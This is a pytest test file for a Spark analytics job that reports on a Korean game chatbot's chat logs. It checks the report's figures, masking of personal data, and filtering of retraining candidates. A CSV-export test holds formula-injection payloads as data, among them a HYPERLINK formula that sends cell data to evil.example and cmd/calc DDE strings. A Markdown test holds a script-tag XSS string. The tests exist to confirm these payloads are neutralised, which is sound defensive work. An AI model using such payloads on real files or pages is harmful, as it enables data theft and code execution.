"""The report's figures on a generated archive whose answers are known by hand."""
import csv
import json
import shutil
import unicodedata
from datetime import datetime, timezone

import pytest

from kobot_analytics.figures import collect_all, figures
from kobot_analytics.records import ARCHIVED, CHAT_LOG, read_chat_log
from kobot_analytics.report import days, main, spark_session, write_report


def ts(hhmm: str, day: str = "2026-11-25") -> int:
    return int(datetime.fromisoformat(f"{day}T{hhmm}:00+00:00").timestamp() * 1000)


def line(id, room, kind, frm, name, text, at, **extra):
    return {"v": 1, "id": id, "roomId": room, "serverId": "s", "kind": kind, "from": frm, "name": name, "text": text, "ts": at, **extra}


def answer(id, room, question_id, question, text, at, latency, model, fallback=False, reason=None, withheld=None, source=None):
    info = {"questionId": question_id, "question": question, "latencyMs": latency, "model": model, "fallback": fallback}
    if reason:
        info["reason"] = reason
    if withheld:
        info["withheld"] = withheld
    if source:
        info["source"] = source
    return line(id, room, "npc", "kobot", "코봇", text, at, replyTo=question_id, npc=info)


RECORDS = [
    line("j1", "r1", "system", "", "", "민수 님이 들어왔어요.", ts("10:00")),
    line("q1", "r1", "player", "p1", "민수", "@kobot 배고파", ts("10:05"), toNpc="kobot"),
    answer("a1", "r1", "q1", "배고파", "밥 먹어요", ts("10:05"), 100, "m1", source="copied"),
    line("q2", "r1", "player", "p1", "민수", "@kobot 배고파", ts("10:20"), toNpc="kobot"),
    answer("a2", "r1", "q2", "배고파", "맛있는 거 드세요", ts("10:20"), 200, "m1", source="copied"),
    line("q3", "r1", "player", "p2", "지영", "@kobot 날씨 좋다", ts("11:00"), toNpc="kobot"),
    answer("a3", "r1", "q3", "날씨 좋다", "음… 생각이 잘 안 나네요.", ts("11:00"), 10000, None, True, "npc_timeout"),
    line("q4", "r2", "player", "p2", "지영", "@kobot 게임 재밌다", ts("11:30"), toNpc="kobot"),
    answer("a4", "r2", "q4", "게임 재밌다", "네", ts("11:30"), 300, "m2", source="composed"),
    line("c1", "r2", "player", "p2", "지영", "안녕", ts("11:31")),
    line("g1", "r2", "npc", "kobot", "코봇", "지영 님, 어서 오세요!", ts("11:32"), unasked="greeting"),  # answers nothing
    # Players' reports of others: not lines; 지영 (signed in, two sessions) reported by two players, 민수 once.
    line("rp1", "r2", "report", "p1", "민수", "욕설", ts("11:40"), report={"player": "p2", "account": "acc-j", "name": "지영", "lineIds": ["c1"]}),
    line("rp2", "r2", "report", "p3", "수아", "", ts("11:41"), account="acc-s", report={"player": "p9", "account": "acc-j", "name": "지영", "lineIds": []}),
    line("rp3", "r2", "report", "p3", "수아", "도배", ts("11:42"), account="acc-s", report={"player": "p9", "account": "acc-j", "name": "지영", "lineIds": []}),
    line("rp4", "r1", "report", "p2", "지영", "", ts("11:43"), report={"player": "p1", "name": "민수", "lineIds": ["q1", "q2"]}),
    line("old", "r1", "player", "p1", "민수", "@kobot 어제 질문", ts("23:00", "2026-11-24"), toNpc="kobot"),
]
ONE_PLAYER = ["--min-players", "1"]  # these tests' questions are mostly one player's (the default needs two)
DUPLICATE = RECORDS[1]  # delivered twice
MALFORMED = [
    "{not json",
    json.dumps(line("bad1", "r1", "emote", "p1", "민수", "춤춘다", ts("10:30"), account="acc-m"), ensure_ascii=False),
    json.dumps(line("bad2", "r1", "npc", "kobot", "코봇", "답", ts("10:31"))),  # npc line without its answer info
]


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    root = tmp_path_factory.mktemp("archive")
    for day in ("2026-11-24", "2026-11-25"):
        (root / f"date={day}").mkdir()
    rows = [json.dumps(r, ensure_ascii=False) for r in RECORDS if r["id"] != "old"] + [json.dumps(DUPLICATE, ensure_ascii=False)] + MALFORMED
    (root / "date=2026-11-25" / "s.ndjson").write_text("\n".join(rows) + "\n")
    (root / "date=2026-11-24" / "s.ndjson").write_text(json.dumps(RECORDS[-1], ensure_ascii=False) + "\n")
    return root


@pytest.fixture(scope="module")
def spark():
    session = spark_session("kobot-analytics-test")
    yield session
    session.stop()


def test_figures_are_exact(spark, archive):
    valid, quarantined = read_chat_log(spark, str(archive), "2026-11-25", "2026-11-25")
    result = figures(collect_all(valid))
    assert result["lines"] == 11  # 12 lines, one from the day before; the duplicate kept once; reports are no lines
    assert result["reports"] == 4
    assert result["mostReported"] == [
        {"player": "acc-j", "name": "지영", "reports": 3, "reporters": 2},
        {"player": "p1", "name": "민수", "reports": 1, "reporters": 1},
    ]
    assert result["questions"] == 4
    assert result["answers"] == 4
    assert result["questionsPerHour"] == {"2026-11-25T10": 2, "2026-11-25T11": 2}
    assert result["questionsPerRoom"] == {"r1": 3, "r2": 1}
    assert result["latencyByModel"] == [
        {"model": "m1", "answers": 2, "p50": 150.0, "p95": 195.0, "p99": 199.0},
        {"model": "m2", "answers": 1, "p50": 300.0, "p95": 300.0, "p99": 300.0},
    ]
    assert result["fallbackRate"] == 0.25
    assert result["timeoutRate"] == 0.25
    assert result["busiestRooms"] == [{"roomId": "r1", "count": 3}, {"roomId": "r2", "count": 2}]
    assert result["busiestPlayers"] == [{"player": "p2", "name": "지영", "count": 3}, {"player": "p1", "name": "민수", "count": 2}]
    # The timeout's fallback line has no source: the worker never answered it.
    assert result["answersBySource"] == [{"npc": "kobot", "source": "copied", "count": 2}, {"npc": "kobot", "source": "composed", "count": 1}]
    assert result["topQuestions"] == [
        {"question": "배고파", "count": 2},
        {"question": "게임 재밌다", "count": 1},
        {"question": "날씨 좋다", "count": 1},
    ]
    assert result["topKeywords"] == [
        {"keyword": "배고프다", "count": 2},
        {"keyword": "게임", "count": 1},
        {"keyword": "날씨", "count": 1},
        {"keyword": "재밌다", "count": 1},
        {"keyword": "좋다", "count": 1},
    ]
    assert result["failedQuestions"] == [
        {"question": "게임 재밌다", "why": "short_answer", "count": 1, "answer": "네"},
        {"question": "날씨 좋다", "why": "npc_timeout", "count": 1, "answer": "음… 생각이 잘 안 나네요."},
    ]
    reasons = sorted(r["reason"] for r in quarantined.collect())
    assert reasons == ["not JSON, or a field of the wrong type", "npc line without its answer info", "unknown kind"]


def test_retrain_candidates_hold_no_personal_data_and_nothing_already_trained(spark, tmp_path):
    from kobot_analytics.candidates import candidates, write_candidates

    training = tmp_path / "ChatbotData.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n날씨 좋다,산책 가요,0\n", encoding="utf-8")
    asked = [
        ("배고파 !", "맛있는 거 드세요", None),  # in the training data, written differently
        ("게임 재밌다", "저도 좋아해요", None),
        ("게임  재밌다?", "재밌죠", None),  # the same question again: kept once (the first answer)
        ("내 번호는 010-1234-5678 이야", "알겠어요", None),
        ("메일 me@example.com 으로 보내줘", "보낼게요", None),
        ("주문번호 12345678 확인해줘", "확인할게요", None),
        ("아무도 없어?", "음… 생각이 잘 안 나네요.", "npc_timeout"),  # a timeout is not an answer to learn
        ("비 와서 우울해", "음, 그건 잘 모르겠어요.", "unsure"),  # the NPC was unsure: the model's answer is the draft
        ("문의는 어디로 해?", "help@example.com 이나 010-2222-3333 으로 연락하세요", None),  # answers are masked too
    ]
    rows = []
    for i, (q, a, reason) in enumerate(asked):  # one player asks them all, with the question lines an answer needs to count
        rows.append(line(f"q{i}", "r1", "player", "p1", "민수", f"@kobot {q}", ts("10:00") + i, toNpc="kobot"))
        rows.append(answer(f"a{i}", "r1", f"q{i}", q, a, ts("10:00") + i, 100.0, "m1", reason is not None, reason,
                           withheld="우선물 해주세요." if reason == "unsure" else None))
    records = spark.createDataFrame(rows, schema=CHAT_LOG)
    path = tmp_path / "retrain-candidates.csv"
    assert write_candidates(candidates(collect_all(records)["outcomes"], training, min_players=1), path) == 6
    text = path.read_text(encoding="utf-8-sig")
    assert text.splitlines() == [
        "Q,A,label,reviewed,asked,players",
        "게임 재밌다,저도 좋아해요,0,no,게임 재밌다,1",
        "내 번호는 [전화번호] 이야,알겠어요,0,no,내 번호는 [전화번호] 이야,1",
        "메일 [이메일] 으로 보내줘,보낼게요,0,no,메일 [이메일] 으로 보내줘,1",
        "문의는 어디로 해?,[이메일] 이나 [전화번호] 으로 연락하세요,0,no,문의는 어디로 해?,1",
        "비 와서 우울해,우선물 해주세요.,0,no,비 와서 우울해,1",
        "주문번호 [숫자] 확인해줘,확인할게요,0,no,주문번호 [숫자] 확인해줘,1",
    ]
    assert "@" not in text and "010" not in text and "12345678" not in text


def test_retrain_candidates_leave_out_what_only_reported_players_asked(spark, tmp_path):
    from kobot_analytics.candidates import candidates

    training = tmp_path / "ChatbotData.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    asked = [  # (line id, session, account, question, answer)
        ("q1", "p1", None, "이상한 질문", "네?"),  # p1 reported by session
        ("q2", "p2", "acc-t", "같이 놀자", "좋아요"),  # acc-t reported by account, from another session
        ("q3", "p3", None, "같이 놀자", "좋아요"),  # the same question by a player nobody reported: kept
        ("q4", "p2", "acc-t", "나쁜 질문", "음"),
    ]
    rows = []
    for i, (qid, session, account, question, said) in enumerate(asked):
        rows.append(line(qid, "r1", "player", session, session, f"@kobot {question}", ts("10:00") + i, toNpc="kobot",
                         **({"account": account} if account else {})))
        rows.append(answer(f"a{qid}", "r1", qid, question, said, ts("10:00") + i, 100.0, "m1"))
    rows.append(line("rp1", "r1", "report", "p3", "p3", "욕설", ts("10:05"), report={"player": "p1", "name": "p1", "lineIds": ["q1"]}))
    rows.append(line("rp2", "r1", "report", "p3", "p3", "", ts("10:06"), report={"player": "p9", "account": "acc-t", "name": "p2", "lineIds": []}))
    records = spark.createDataFrame(rows, schema=CHAT_LOG)
    assert candidates(collect_all(records)["outcomes"], training, min_players=1) == [("같이 놀자", "좋아요", 1)]


def test_retrain_candidates_need_two_players_and_leave_out_moderated_private_and_toxic_lines(spark, tmp_path):
    """The review's archive (/tmp/review-poison): one guest's spam with a link, a handle and a phone number was the first
    candidate (its `!` sorted first), and a threat scored 0.97 toxic the second."""
    from kobot_analytics.candidates import candidates

    training = tmp_path / "ChatbotData.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    spam = "!!무료 골드 받는법 알려줘 https://scam.example/gold 카톡 scam77 010ㅡ1234ㅡ5678"
    asked = [  # (session, account, question, extra fields of the question line)
        ("p1", None, spam, {}), ("p1", None, spam, {}),  # one guest, twice: one player
        ("p2", "acc-a", "대장간은 어디야", {}), ("p3", "acc-a", "대장간은 어디야", {}),  # one account, two sessions
        ("p4", None, "여관은 어디야", {}), ("p5", None, "여관은 어디야", {}), ("p6", "acc-b", "여관은 어디야", {}),
        ("p4", None, "상점은 어디야", {}), ("p5", None, "상점은 어디야", {}),
        ("p4", None, "너네 엄마 어디 사냐 찾아간다", {"toxicity": 0.97}), ("p5", None, "너네 엄마 어디 사냐 찾아간다", {"toxicity": 0.5}),
        ("p6", None, "너네 엄마 어디 사냐 찾아간다", {"toxicity": 0.2}),
        ("p4", None, "비밀 얘기 해줘", {"private": True}), ("p5", None, "비밀 얘기 해줘", {"private": True}),
        ("p4", None, "욕 해봐", {"moderated": True}), ("p5", None, "욕 해봐", {"moderated": True}),
    ]
    rows = []
    for i, (session, account, question, extra) in enumerate(asked):
        rows.append(line(f"q{i}", "r1", "player", session, session, f"@kobot {question}", ts("10:00") + i, toNpc="kobot",
                         **({"account": account} if account else {}), **extra))
        rows.append(answer(f"a{i}", "r1", f"q{i}", question, "그래요", ts("10:00") + i, 100.0, "m1"))
    outcomes = collect_all(spark.createDataFrame(rows, schema=CHAT_LOG))["outcomes"]
    assert candidates(outcomes, training) == [("여관은 어디야", "그래요", 3), ("상점은 어디야", "그래요", 2)]
    masked_spam = "!!무료 골드 받는법 알려줘 [링크] [메신저 아이디] [전화번호]"
    assert candidates(outcomes, training, min_players=1) == [
        ("여관은 어디야", "그래요", 3), ("상점은 어디야", "그래요", 2),
        (masked_spam, "그래요", 1), ("너네 엄마 어디 사냐 찾아간다", "그래요", 1), ("대장간은 어디야", "그래요", 1),
    ]


def test_an_answer_whose_question_line_is_not_read_brings_no_asker(spark, tmp_path):
    """A question asked before the report's first day (answered after midnight) or whose record was lost: nothing says
    whether its line was toxic, refused or private, nor, for a guest, who asked. Its answer counts no asker, by its
    `npc.asker` (the account) neither: two such answers made a toxic question a candidate."""
    from kobot_analytics.candidates import candidates

    training = tmp_path / "ChatbotData.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    threat = "너네 엄마 어디 사냐 찾아간다"
    signed_in = answer("a2", "r1", "gone2", threat, "그래요", ts("00:01"), 100.0, "m1")
    signed_in["npc"]["asker"] = "acc-a"
    rows = [
        answer("a1", "r1", "gone1", threat, "그래요", ts("00:00"), 100.0, "m1"),  # a guest's, its line yesterday's
        signed_in,
        line("q3", "r1", "player", "p3", "수아", "@kobot 여관은 어디야", ts("10:00"), toNpc="kobot"),
        answer("a3", "r1", "q3", "여관은 어디야", "저기요", ts("10:00"), 100.0, "m1"),
        answer("a4", "r1", "gone4", "여관은 어디야", "저기요", ts("00:02"), 100.0, "m1"),
    ]
    outcomes = collect_all(spark.createDataFrame(rows, schema=CHAT_LOG))["outcomes"]
    assert candidates(outcomes, training, min_players=1) == [("여관은 어디야", "저기요", 1)]
    assert candidates(outcomes, training) == []
    # No setting makes a question nobody fit asked a candidate.
    assert candidates(outcomes, training, min_players=0) == [("여관은 어디야", "저기요", 1)]


def test_a_question_typed_in_decomposed_jamo_is_the_same_question(spark, tmp_path):
    """NFD (macOS, some IMEs) and NFC spell 배고파 apart: counted as two questions, and one the training data holds,
    typed in jamo, became a candidate in jamo."""
    from kobot_analytics.candidates import candidates

    training = tmp_path / "ChatbotData.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    nfd = lambda text: unicodedata.normalize("NFD", text)
    rows = []
    for i, question in enumerate(["배고파", nfd("배고파"), "놀러 가자", nfd("놀러 가자")]):
        rows.append(line(f"q{i}", "r1", "player", "p1", "민수", f"@kobot {question}", ts("10:00") + i, toNpc="kobot"))
        rows.append(answer(f"a{i}", "r1", f"q{i}", question, "그래요", ts("10:00") + i, 100.0, "m1"))
    results = collect_all(spark.createDataFrame(rows, schema=CHAT_LOG))
    assert figures(results)["topQuestions"] == [{"question": "놀러 가자", "count": 2}, {"question": "배고파", "count": 2}]
    assert candidates(results["outcomes"], training, min_players=1) == [("놀러 가자", "그래요", 1)]


def test_retrain_candidates_cannot_run_as_spreadsheet_formulas(tmp_path):
    from kobot_analytics.candidates import write_candidates

    formula = '=HYPERLINK("http://evil.example/?d="&A1,"확인")'
    rows = [
        (formula, "+1+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 계산해줘"),
        ("\t=1+1", "\r=1+1"),
        ("'=이미 따옴표", "'그냥 따옴표"),  # a quote before a formula gets one more; any other stays as typed
        ("배고파", "밥 먹어요"),
    ]
    path = tmp_path / "retrain-candidates.csv"
    write_candidates(rows, path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [(row["Q"], row["A"]) for row in csv.DictReader(handle)]
    assert cells == [
        ("'" + formula, "'+1+cmd|' /C calc'!A0"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3 계산해줘"),
        ("'\t=1+1", "'\r=1+1"),
        ("''=이미 따옴표", "'그냥 따옴표"),
        ("배고파", "밥 먹어요"),
    ]


def asked_and_answered(i: int, question: str, said: str, **answered) -> list[dict]:
    """A player's question line and the NPC's answer to it (`answered`: answer's other arguments): the report's tables
    print only questions whose line it read."""
    return [line(f"q{i}", "r1", "player", "p1", "민수", f"@kobot {question}", ts("10:00") + i, toNpc="kobot"),
            answer(f"a{i}", "r1", f"q{i}", question, said, ts("10:00") + i, **{"latency": 100.0, "model": "m1", **answered})]


def hostile_report(spark, tmp_path, questions: list[str], more: list[dict] = ()) -> tuple[dict, str]:
    """The report of one short answer (a failed question) to each of `questions`, and of the records `more`."""
    records = spark.createDataFrame(
        [row for i, q in enumerate(questions) for row in asked_and_answered(i, q, "네")] + list(more), schema=CHAT_LOG
    )
    result = {**figures(collect_all(records)), "quarantined": 0}
    write_report(result, tmp_path, "2026-11-25", "2026-11-25")
    return json.loads((tmp_path / "report.json").read_text()), (tmp_path / "report.md").read_text()


def test_report_shows_player_questions_with_personal_data_masked(spark, tmp_path):
    asked = ["내 번호 010-1234-5678", "내 번호 010-9876-5432", "메일 minsu@example.com 이야"]
    # A failed answer that says what a player typed (their name, as NPC lines do): shown with its question, masked.
    failed = asked_and_answered(9, "안녕", "minsu@example.com 님, 잠시 후 다시 물어봐 주세요.", model=None, fallback=True, reason="npc_error")
    report, markdown = hostile_report(spark, tmp_path, asked, failed)
    assert report["topQuestions"] == [
        {"question": "내 번호 [전화번호]", "count": 2}, {"question": "메일 [이메일] 이야", "count": 1}, {"question": "안녕", "count": 1}]
    assert [q["question"] for q in report["failedQuestions"]] == ["내 번호 [전화번호]"] * 2 + ["메일 [이메일] 이야", "안녕"]
    assert report["failedQuestions"][-1]["answer"] == "[이메일] 님, 잠시 후 다시 물어봐 주세요."
    for written in (json.dumps(report, ensure_ascii=False), markdown):
        assert "010" not in written and "minsu" not in written and "@" not in written


def test_report_masks_personal_data_players_put_in_their_names(spark, tmp_path):
    records = spark.createDataFrame([
        line("l1", "r1", "player", "p1", "민수 010-1234-5678", "안녕", ts("10:00")),
        line("rp1", "r1", "report", "p2", "지영", "욕설", ts("10:01"), report={"player": "p1", "name": "민수 010-1234-5678", "lineIds": ["l1"]}),
    ], schema=CHAT_LOG)
    result = figures(collect_all(records))
    assert result["busiestPlayers"] == [{"player": "p1", "name": "민수 [전화번호]", "count": 1}]  # a report is not a line said
    assert result["mostReported"] == [{"player": "p1", "name": "민수 [전화번호]", "reports": 1, "reporters": 1}]


def test_busiest_players_count_a_signed_in_player_once_across_sessions(spark):
    said = [line(f"m{i}", "r1", "player", f"s{1 + i // 3}", "민수", "안녕", ts(f"10:0{i}"), account="acc-m") for i in range(6)]
    said += [line(f"j{i}", "r1", "player", "s3", "지영", "안녕", ts(f"11:0{i}")) for i in range(4)]
    records = spark.createDataFrame(said, schema=CHAT_LOG)
    assert figures(collect_all(records))["busiestPlayers"] == [{"player": "acc-m", "name": "민수", "count": 6}, {"player": "s3", "name": "지영", "count": 4}]


def test_a_signed_in_reporter_in_two_sessions_is_one_reporter(spark):
    """Reporters are counted as players are (by account when signed in): counted by session, one player reporting
    from two visits read as two players reporting."""
    reported = {"player": "p9", "account": "acc-t", "name": "트롤", "lineIds": []}
    records = spark.createDataFrame([
        line("rp1", "r1", "report", "s1", "수아", "욕설", ts("10:00"), account="acc-r", report=reported),
        line("rp2", "r1", "report", "s2", "수아", "도배", ts("11:00"), account="acc-r", report=reported),
    ], schema=CHAT_LOG)
    assert figures(collect_all(records))["mostReported"] == [{"player": "acc-t", "name": "트롤", "reports": 2, "reporters": 1}]


def test_a_question_asked_twice_offers_the_first_answer_given_for_retraining(spark, tmp_path):
    """The first answer by its time, not the order the rows come in: the latest answer was offered instead."""
    from kobot_analytics.candidates import candidates

    training = tmp_path / "ChatbotData.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    rows = [  # the later answer comes first in the data
        line("q2", "r1", "player", "p2", "지영", "@kobot 놀러 가자", ts("10:05"), toNpc="kobot"),
        answer("a2", "r1", "q2", "놀러 가자", "나중 답이에요", ts("10:05"), 100.0, "m1"),
        line("q1", "r1", "player", "p1", "민수", "@kobot 놀러 가자", ts("10:00"), toNpc="kobot"),
        answer("a1", "r1", "q1", "놀러 가자", "처음 답이에요", ts("10:00"), 100.0, "m1"),
    ]
    results = collect_all(spark.createDataFrame(rows, schema=CHAT_LOG))
    assert candidates(results["outcomes"], training, min_players=1) == [("놀러 가자", "처음 답이에요", 2)]


def test_an_answer_of_four_characters_is_not_a_short_answer(spark):
    """Short is under SHORT_ANSWER_CHARS (4): 그렇군요 and 알겠어요 are answers, not failed questions."""
    rows = asked_and_answered(1, "오늘 비 와", "그렇군요") + asked_and_answered(2, "배고파", "밥!")
    failed = figures(collect_all(spark.createDataFrame(rows, schema=CHAT_LOG)))["failedQuestions"]
    assert [(f["question"], f["why"]) for f in failed] == [("배고파", "short_answer")]


def test_top_questions_count_each_question_once_however_many_answers_it_got(spark):
    """Counted by their answers, a question that timed out and was then answered, or whose answer was logged twice (under
    another id: a redrive), was asked twice; its keywords too."""
    rows = asked_and_answered(0, "배고파", "음… 생각이 잘 안 나네요.", latency=10000.0, model=None, fallback=True, reason="npc_timeout")
    rows += [answer("a0b", "r1", "q0", "배고파", "밥 먹어요", ts("10:01"), 200.0, "m1")]
    rows += asked_and_answered(1, "놀러 가자", "좋아요, 가요")
    rows += [answer("a1b", "r1", "q1", "놀러 가자", "좋아요, 가요", ts("10:00") + 1, 100.0, "m1")]
    rows += asked_and_answered(2, "놀러 가자", "그래요, 가요")
    result = figures(collect_all(spark.createDataFrame(rows, schema=CHAT_LOG)))
    assert result["topQuestions"] == [{"question": "놀러 가자", "count": 2}, {"question": "배고파", "count": 1}]
    assert {k["keyword"]: k["count"] for k in result["topKeywords"]}["배고프다"] == 1
    assert result["questionsLeftOut"] == 0
    assert result["failedQuestions"] == [{"question": "배고파", "why": "npc_timeout", "count": 1, "answer": "음… 생각이 잘 안 나네요."}]


def test_report_tables_print_no_refused_private_or_toxic_question_and_say_how_many_they_left_out(spark, tmp_path):
    """The line rule of the retraining candidates (records.unfit_line, question line read): the tables printed the abuse
    moderation refused (its refusal a failed question too), lines one player said in private, and toxic ones."""
    private_answer = answer("a5", "r1", "q5", "어디 숨었어", "뒤", ts("10:05"), 100.0, "m1")
    rows = [
        line("q0", "r1", "player", "p1", "민수", "@kobot 여관은 어디야", ts("10:00"), toNpc="kobot", toxicity=0.2),
        answer("a0", "r1", "q0", "여관은 어디야", "저기 광장 옆이에요", ts("10:00"), 100.0, "m1"),
        line("q1", "r1", "player", "p1", "민수", "@kobot 바보 멍청이 욕설", ts("10:01"), toNpc="kobot", moderated=True, toxicity=0.9),
        answer("a1", "r1", "q1", "바보 멍청이 욕설", "그런 말은 하지 말아 주세요.", ts("10:01"), 0.0, None, True, "moderated_input"),
        line("q2", "r1", "player", "p2", "지영", "@kobot 내 비밀 보물 지도", ts("10:02"), toNpc="kobot", private=True),
        {**answer("a2", "r1", "q2", "내 비밀 보물 지도", "알겠어요", ts("10:02"), 100.0, "m1"), "private": True},
        line("q3", "r1", "player", "p3", "수아", "@kobot 너네 엄마 찾아간다", ts("10:03"), toNpc="kobot", toxicity=0.5),  # not refused
        answer("a3", "r1", "q3", "너네 엄마 찾아간다", "네", ts("10:03"), 100.0, "m1"),
        answer("a4", "r1", "gone", "어제 협박 질문", "네", ts("00:01"), 100.0, "m1"),  # its line the day before
        # The same question in private first, then aloud: the failed table shows the answer said aloud.
        line("q5", "r1", "player", "p2", "지영", "@kobot 어디 숨었어", ts("10:05"), toNpc="kobot", private=True),
        {**private_answer, "private": True},
        *asked_and_answered(6, "어디 숨었어", "앞"),
    ]
    result = {**figures(collect_all(spark.createDataFrame(rows, schema=CHAT_LOG))), "quarantined": 0}
    assert result["topQuestions"] == [{"question": "어디 숨었어", "count": 1}, {"question": "여관은 어디야", "count": 1}]
    assert result["failedQuestions"] == [{"question": "어디 숨었어", "why": "short_answer", "count": 1, "answer": "앞"}]
    assert result["questionsLeftOut"] == 5  # refused, private (twice), toxic, unread
    write_report(result, tmp_path, "2026-11-25", "2026-11-25")
    markdown = (tmp_path / "report.md").read_text()
    for word in ["바보", "욕설", "비밀", "보물", "엄마", "협박", "| 뒤 |"]:
        assert word not in markdown and word not in json.dumps(result, ensure_ascii=False), word
    assert "5 questions left out of these tables: refused by moderation, said in private, scored toxic," in markdown


def test_a_record_without_its_version_is_quarantined(spark, tmp_path):
    day = tmp_path / "archive" / "date=2026-11-25"
    day.mkdir(parents=True)
    record = {key: value for key, value in RECORDS[1].items() if key != "v"}
    day.joinpath("s.ndjson").write_text(json.dumps(record, ensure_ascii=False) + "\n")
    valid, quarantined = read_chat_log(spark, str(tmp_path / "archive"), "2026-11-25", "2026-11-25")
    assert valid.count() == 0
    assert [row.reason for row in quarantined.collect()] == ["unknown record version"]


def test_report_md_shows_player_text_as_text(spark, tmp_path):
    asked = ["<b>x</b> & <script>alert(1)</script>", "[link](http://x) `code`", "줄\n바꿈 | *별*", "https://evil.example/login 와 WWW.evil.example"]
    _, markdown = hostile_report(spark, tmp_path, asked)
    assert "evil.example" not in markdown, "links are masked (personal_data.py), none for GitHub's Markdown to make one of"
    assert "<b>" not in markdown and "<script>" not in markdown and "[link](" not in markdown and " `code`" not in markdown
    assert "| &lt;b&gt;x&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt; | 1 |" in markdown
    assert "| \\[link\\](\\[링크\\] \\`code\\` | 1 |" in markdown, "its link masked, its brackets and backticks escaped"
    assert "| 줄<br>바꿈 \\| \\*별\\* | 1 |" in markdown, "one table row, its pipe and emphasis escaped"


def write_json_lines_archive(spark, root):
    """The embedded default's files: a line torn by a kill on an earlier day, a good one on the report's."""
    for day, text in (("2026-11-01", '{"v":1,"id":"old-torn","roomId":"r","te\n'), ("2026-11-25", json.dumps(RECORDS[1]) + "\n")):
        (root / f"date={day}").mkdir(parents=True)
        (root / f"date={day}" / "s.ndjson").write_text(text)


def write_parquet_archive(spark, root):
    """The archive job's Parquet: an old job's record of a kind the reports do not know, and a good one; and what the
    job set aside beside it (`quarantine/chat-log/`): a record of the day before, one of no day it can read (dated by
    Kafka's time), and one of neither."""
    old = line("old-emote", "r1", "emote", "p1", "민수", "춤춘다", ts("10:00", "2026-11-01"))
    rows = [{**old, "date": "2026-11-01"}, {**RECORDS[1], "date": "2026-11-25"}]
    spark.createDataFrame(rows, schema=ARCHIVED).write.partitionBy("date").parquet(str(root))
    set_aside = root.parent / "quarantine" / "chat-log"
    set_aside.mkdir(parents=True)
    (set_aside / "part-0.json").write_text("\n".join(json.dumps(record) for record in [
        {"record": json.dumps({"v": 1, "id": "no-room", "kind": "player", "ts": ts("09:00", "2026-11-01")}), "reason": "no roomId"},
        {"record": "{not json", "reason": "not JSON, or a field of the wrong type", "kafkaTime": "2026-11-01T12:00:00.000Z"},
        {"record": "{nor this", "reason": "not JSON, or a field of the wrong type"},
    ]) + "\n")


@pytest.mark.parametrize("write_archive", [write_json_lines_archive, write_parquet_archive])
def test_quarantine_holds_only_the_reported_days(spark, tmp_path, write_archive):
    root = tmp_path / "archive"
    write_archive(spark, root)
    valid, quarantined = read_chat_log(spark, str(root), "2026-11-25", "2026-11-25")
    assert (valid.count(), quarantined.count()) == (1, 0)
    valid, quarantined = read_chat_log(spark, str(root), "2026-11-01", "2026-11-01")
    if write_archive is write_json_lines_archive:
        assert (valid.count(), quarantined.count()) == (0, 1)
        [set_aside] = quarantined.collect()
        assert "/date=2026-11-01/" in set_aside.file and set(set_aside.asDict()) == {"reason", "file", "id"}
        return
    # The Parquet archive: its old record, and what the job set aside of that day (it said 0, whatever it had).
    rows = sorted((r.id or "", r.reason, "/date=2026-11-01/" in r.file or "/quarantine/chat-log/" in r.file) for r in quarantined.collect())
    assert rows == [("", "not JSON, or a field of the wrong type", True), ("no-room", "no roomId", True), ("old-emote", "unknown kind", True)], rows


def test_a_line_archived_twice_in_parquet_counts_once(spark, tmp_path):
    """Redriven more than a day after its first delivery (chatlog:redrive after a long Elasticsearch fix), a line is
    past the archive job's dedupe state and lands in a second file of its day: the reports counted it twice."""
    root = str(tmp_path / "archive")
    for batch in ([RECORDS[0], RECORDS[1]], [RECORDS[1]]):  # the second, the redrive's batch
        spark.createDataFrame([{**r, "date": "2026-11-25"} for r in batch], schema=ARCHIVED).write.mode("append").partitionBy("date").parquet(root)
    valid, _ = read_chat_log(spark, root, "2026-11-25", "2026-11-25")
    assert sorted(r.id for r in valid.collect()) == sorted([RECORDS[0]["id"], RECORDS[1]["id"]])


def test_days_without_records_give_an_empty_report(spark, archive):
    valid, quarantined = read_chat_log(spark, str(archive), "2026-12-01", "2026-12-01")
    assert quarantined.count() == 0
    result = figures(collect_all(valid))
    assert (result["lines"], result["questions"], result["topQuestions"]) == (0, 0, [])


# Last in this file: the job stops the Spark session when it is done, as a job should.
def test_job_writes_report_charts_and_quarantine(spark, archive, tmp_path, capsys):
    # Without the training data (a container that does not mount it) the report has no candidates, and says so.
    missing = tmp_path / "no-training-data.csv"
    assert main([*ONE_PLAYER, "--input", str(archive), "--from", "2026-11-25", "--to", "2026-11-25", "--out", str(tmp_path), "--training-data", str(missing)]) == 0
    assert f"analytics: no retrain-candidates.csv: no training data at {missing}" in capsys.readouterr().err
    out = tmp_path / "2026-11-25"
    assert not (out / "retrain-candidates.csv").exists()
    report = json.loads((out / "report.json").read_text())
    assert report["questions"] == 4 and report["quarantined"] == 3
    assert (out / "questions-per-hour.png").stat().st_size > 1000
    assert (out / "latency-by-model.png").stat().st_size > 1000
    markdown = (out / "report.md").read_text()
    assert "fallback rate 25.0%" in markdown
    assert "4 questions to NPCs, 4 NPC answers;" in markdown, "answers, not every NPC line (greetings are not counted)"
    assert "| kobot | composed | 1 |" in markdown, "where the answers came from"
    assert "## Players reported most (4 reports" in markdown and "| acc-j | 지영 | 3 | 2 |" in markdown
    text = (out / "quarantine.ndjson").read_text()
    quarantine = [json.loads(line) for line in text.splitlines()]
    assert len(quarantine) == 3 and all(q["reason"] for q in quarantine)
    # Where each record lies and why, not what it says: a player's erasure reaches the archive, not a report's folder.
    assert all(set(q) == {"reason", "file", "id"} and q["file"].endswith("date=2026-11-25/s.ndjson") for q in quarantine), quarantine
    assert sorted(q["id"] or "" for q in quarantine) == ["", "bad1", "bad2"]
    assert not any(said in text for said in ["{not json", "acc-m", "민수", "춤춘다", "답"]), text


